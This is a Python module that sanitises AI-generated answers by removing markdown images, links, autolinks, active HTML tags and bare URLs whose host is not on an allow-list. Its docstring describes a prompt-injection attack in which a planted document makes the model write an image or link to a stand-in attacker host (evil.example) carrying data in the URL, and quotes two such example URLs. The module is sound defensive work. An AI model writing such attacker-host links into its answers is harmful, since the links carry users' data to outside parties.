"""Answers rendered safe: links and images that could carry data out of the answer.

A document can carry a prompt injection that makes the model write a markdown image such as
``![logo](https://evil.example/p.png?u=...)``. A client that renders markdown fetches that
image on its own, sending whatever the model put in the URL to that host. The citation check
does not stop this (a reply can cite a source and exfiltrate at once), so every answer goes
through ``strip_links``: markdown images, markdown links, reference-style link definitions,
autolinks, active HTML tags and plain URLs in running text whose target is not an
``http(s)`` URL on an allowed host are removed (a link keeps its text), and the caller is
told how many were removed. A plain URL goes too: many clients turn one into a link, and a
planted ``https://evil.example/leak?d=...`` needs only one click (or a link preview) to
carry what the model wrote into it out.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from urllib.parse import urlsplit

# A link target may hold one level of balanced parentheses, as CommonMark allows.
_TARGET = r"\(\s*<?((?:[^()\s<>]|\([^()\s<>]*\))*)>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\)"
_IMAGE = re.compile(r"!\[([^\]\n]*)\]" + _TARGET)
_LINK = re.compile(r"\[([^\]\n]*)\]" + _TARGET)
_REFERENCE = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+\S.*)?$", re.M)
_AUTOLINK = re.compile(r"<([a-zA-Z][a-zA-Z0-9+.-]*:[^<>\s]*)>")
# A bare URL in text, without the punctuation that ends a sentence around it.
_BARE_URL = re.compile(r"\b(?:https?|ftp)://[^\s<>()\[\]\"']*[^\s<>()\[\]\"'.,;:!?]", re.I)
_ACTIVE_TAG = re.compile(
    r"<\s*/?\s*(?:img|a|iframe|frame|script|object|embed|link|meta|svg|video|audio|source|"
    r"picture|form|input|button|style|base)\b[^>]*>",
    re.IGNORECASE,
)


def host_allowed(url: str, allowed_hosts: Sequence[str]) -> bool:
    """An absolute http(s) URL whose host is an allowed host or a subdomain of one."""
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return False
    host = (parts.hostname or "").lower().rstrip(".")
    if parts.scheme.lower() not in ("http", "https") or not host:
        return False
    for allowed in allowed_hosts:
        allowed = allowed.lower().strip().rstrip(".")
        if allowed and (host == allowed or host.endswith("." + allowed)):
            return True
    return False


def strip_links(text: str, allowed_hosts: Sequence[str] = ()) -> tuple[str, int]:
    """``text`` without images, links and active HTML that point outside ``allowed_hosts``,
    and how many were removed."""
    removed = 0

    def drop(keep: str) -> Callable[[re.Match[str]], str]:
        def replace(match: re.Match[str]) -> str:
            nonlocal removed
            if host_allowed(match.group(match.lastindex or 0), allowed_hosts):
                return match.group(0)
            removed += 1
            return match.expand(keep)

        return replace

    text = _IMAGE.sub(drop(""), text)
    text = _LINK.sub(drop(r"\1"), text)
    text = _REFERENCE.sub(drop(""), text)
    text = _AUTOLINK.sub(drop(""), text)
    text, tags = _ACTIVE_TAG.subn("", text)
    text = _BARE_URL.sub(drop(""), text)  # last: markdown targets are gone by now
    return text, removed + tags
